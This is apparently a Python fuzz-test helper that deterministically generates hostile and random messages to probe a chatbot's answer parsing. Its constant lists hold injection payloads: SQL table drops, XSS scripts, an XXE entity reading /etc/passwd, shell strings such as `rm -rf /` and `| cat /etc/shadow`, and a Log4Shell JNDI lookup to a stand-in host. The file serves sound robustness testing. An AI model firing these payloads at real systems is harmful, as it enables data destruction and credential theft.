"""Hostile and random messages, drawn by number; none is an answer that a person may have meant.

The digits 0 to 4 are kept out of what is random: "3" is an answer, whoever sends it.
"""

from __future__ import annotations

import json
import random
import unicodedata

# Also in other guises: "²" and "½" are read as digits.
LEVEL_DIGITS = {
    sign: "5"
    for sign in range(0x110000)
    if set("01234") & set(unicodedata.normalize("NFKD", chr(sign)))
}
SQL = (
    "'; DROP TABLE answers; --", "' OR '1'='1", '" OR ""="', "1; DELETE FROM diagnostics",
    "x' UNION SELECT * FROM answers --", "Robert'); DROP TABLE conversations;--", "\\'; --",
    "admin'/*", "%' AND 1=0 --", "$$; SELECT pg_sleep(9); $$",
)  # fmt: skip
MARKUP = (
    "<script>alert('x')</script>", "<img src=x onerror=alert(9)>", "<svg/onload=alert(9)>",
    "javascript:alert(9)", "<!--#exec cmd=\"ls\"-->", "<iframe src='//x.example'>", "]]>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>", "&#x3C;b&#x3E;",
    "[x](javascript:alert(9))", "`rm -rf /`", "$(reboot)", "| cat /etc/shadow", "..\\..\\boot.ini",
)  # fmt: skip
TEMPLATES = (
    "{0.__class__.__mro__}", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%s%n%x", "{text}",
    "{level}", "#{7*7}", "<%= 7*7 %>", "{", "}", "{}", "{!r:>999999999}", "%(x)s", "\\N{DEL}",
)  # fmt: skip
COMMANDS = ("restart", "session_start", "back", "answer", "delete_data", "affirm", "start", "",
            "restart_diagnostic", "action_turn", "inform", "out_of_scope")  # fmt: skip
NAMES = ("answer", "confirm", "skip", "unknown", "mode", "keep_question", "resume", "size", "x")
JSONISH = (
    '{"sender": "x", "message": "y"}', "[[[[[[[[", '{"a":' * 60, "null", "NaN", "-Infinity",
    '{"__proto__": {"admin": true}}', '{"custom": {"type": "answer"}}', "[]", '"', "undefined",
)  # fmt: skip
ODD = (
    "\0", "a\0b", "\ud800", "\udfff\ud800", "x\ud83dy", "\u202eesrevni", "\u2066\u2067\u2068",
    "\ufeff", "\ufffe\uffff", "\u2028\u2029", "\x1b[31mrouge\x1b[m", "\r\n\r\nSet-Cookie: x=y",
    "\x7f\x80\x9f", "ﷺ" * 40, "Z" + "\u0335\u0361\u0489" * 60, "\u200b" * 30, "İıſKÅ", "ßﬁ", "𝕯𝖊",
    "👨‍👩‍👧‍👦", "🏳️‍🌈🏴‍☠️", "🙂" * 200, "مرحبا كيف الحال", "שלום עולם", "你好世界", "こんにちは",
    "Привет", "ᐃᓄᒃᑎᑐᑦ", "t̷̛e̷x̸t", "\U000e0001\U000e0041", "⁦", "…", "—", "¿¡", "\\x00", "%00",
    "\\ud800",
)  # fmt: skip


def draw(number: int) -> str:
    """The hostile message of this number: the same at every run."""
    chance = random.Random(f"hostile-{number}")
    kind = chance.randrange(11)
    if kind == 0:
        return _noise(chance, 0x20, 0x7F)
    if kind == 1:
        return _noise(chance, 0, 0x10FFFF)
    if kind == 2:
        return _noise(chance, 0, 0x20) + _noise(chance, 0x80, 0xA0)
    if kind == 3:
        raw = bytes(chance.randrange(256) for _ in range(chance.randrange(1, 200)))
        return raw.decode(chance.choice(["latin-1", "utf-16-le", "utf-8"]), "replace").translate(
            LEVEL_DIGITS
        )
    if kind == 4:
        return (
            "/"
            + chance.choice(COMMANDS)
            + chance.choice(
                [
                    "",
                    '{"level": "4"}',
                    '{"question": "E2"}',
                    "{",
                    " ",
                    "{}",
                    '{"a": ' * 20,
                    "@x",
                    "\0",
                ]
            )
        )
    if kind == 5:
        mac = "".join(chance.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(16))
        return f"~{chance.choice(NAMES)}:{chance.choice(['E2', 'E3', 'delete', 'x'])}:4:{mac}"
    if kind == 6:
        return chance.choice(SQL + MARKUP + TEMPLATES) + _noise(chance, 0x20, 0x300, 20)
    if kind == 7:
        return chance.choice(SQL + MARKUP + TEMPLATES + JSONISH + ODD)
    if kind == 8:
        return chance.choice(ODD) + _noise(chance, 0x20, 0x3000, 40) + chance.choice(ODD)
    if kind == 9:
        return chance.choice(["x", "é ", "🙂", "\u0301", "<", "(", "/", "\n", "~"]) * chance.choice(
            [1, 2, 999, 1000, 1001, 20_000]
        )
    return json.dumps({_noise(chance, 0x20, 0x7F, 8): _noise(chance, 0x20, 0x3000, 60)})


def _noise(chance: random.Random, low: int, high: int, longest: int = 300) -> str:
    length = chance.randrange(1, longest)
    return "".join(chr(chance.randrange(low, high)) for _ in range(length)).translate(LEVEL_DIGITS)
